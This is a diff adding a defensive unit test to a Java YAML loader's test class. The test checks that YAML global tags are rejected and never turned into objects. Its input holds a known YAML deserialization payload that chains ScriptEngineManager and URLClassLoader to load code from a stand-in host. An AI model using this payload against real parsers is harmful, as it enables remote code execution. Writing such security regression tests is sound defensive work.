@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.nio.file.Path;
 import net.jqwik.api.Arbitrary;
+import net.jqwik.api.Example;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
 import net.jqwik.api.Provide;
@@ -33,6 +34,32 @@ class SafeYamlPropertiesTest {
             assertThat(diagnostic.line()).as(diagnostic.toString()).isBetween(1, lastLine);
             assertThat(diagnostic.message()).isNotBlank().doesNotContain("Exception").doesNotContain("\tat ");
         }
+    }
+
+    /** Set when a {@link Tripwire} is made: it never should be. */
+    static volatile boolean tripped;
+
+    /** A class that a YAML tag names, to show that tags never make objects. */
+    public static final class Tripwire {
+        public Tripwire() {
+            tripped = true;
+        }
+    }
+
+    @Example
+    void aTagNamingAJavaClassIsRefusedAtItsPlaceAndNeverMadeIntoAnObject() {
+        Diagnostics diagnostics = new Diagnostics();
+        String text = "title: !!org.healthlib.core.yaml.SafeYamlPropertiesTest$Tripwire {}\n"
+                + "summary: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.9/\"]]]]\n";
+        var map = SafeYaml.map(new YamlFile(FILE, 2, diagnostics), text, "front matter", Position.START);
+
+        assertThat(map).isEmpty();
+        assertThat(diagnostics.sorted()).singleElement().satisfies(diagnostic -> {
+            assertThat(diagnostic.line()).isEqualTo(2);
+            assertThat(diagnostic.column()).isEqualTo(8);
+            assertThat(diagnostic.message()).startsWith("invalid YAML: Global tag is not allowed");
+        });
+        assertThat(tripped).isFalse();
     }
 
     @Property(tries = 200)
